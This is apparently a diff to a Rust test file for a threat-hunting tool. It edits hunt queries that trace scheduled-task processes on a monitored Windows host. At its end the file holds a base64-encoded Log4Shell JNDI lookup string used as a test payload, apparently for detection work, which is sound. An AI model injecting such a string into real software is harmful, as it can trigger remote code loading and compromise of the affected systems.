@@ -80,9 +80,9 @@ const BOOKS: &[Book] = &[
     Book {
         name: "Windows Scheduled Tasks",
         cells: &[
-            r"svchost = GET process FROM stixshifter://host101 WHERE [process:command_line = 'C:\Windows\run.exe -k Schedule -n 0'] START t'2021-04-03T00:00:00Z' STOP t'2021-04-04T00:00:00Z'",
+            r"svchost = GET process FROM stixshifter://host101 WHERE [process:command_line = 'C:\Windows\system32\svc.exe -k Schedule -n 0'] START t'2021-04-03T00:00:00Z' STOP t'2021-04-04T00:00:00Z'",
             r"all = GET process FROM stixshifter://host101 WHERE [process:name = 'svchost.exe'] START t'2021-04-03T00:00:00Z' STOP t'2021-04-04T00:00:00Z'
-scheduler = GET process FROM all WHERE [process:command_line = 'C:\Windows\run.exe -k Schedule -n 0']
+scheduler = GET process FROM all WHERE [process:command_line = 'C:\Windows\system32\svc.exe -k Schedule -n 0']
 tasks = FIND process CREATED BY scheduler
 DISP tasks ATTR name, pid, command_line",
             "net = GET process FROM tasks WHERE [process:name NOT LIKE '%xyz%']\nchildren = FIND process CREATED BY net\nflows = FIND network-traffic CREATED BY children\ngrand = FIND process CREATED BY children\nfiles = FIND file LINKED net\nDISP files ATTR name, parent_directory_ref.path\nDISP flows ATTR dst_ref.value, dst_port",
@@ -210,7 +210,6 @@ outputs = ["exploit", "original"]
 
 [analytics."python://attribute-plot"]
 exec = ["/bin/sh", "-c", "while read -r line; do echo '{}'; done"]
-outputs = []
 "#;
 
 const PAYLOAD: &str = "JHtqbmRpOmxkYXA6Ly94fQ== jndi";
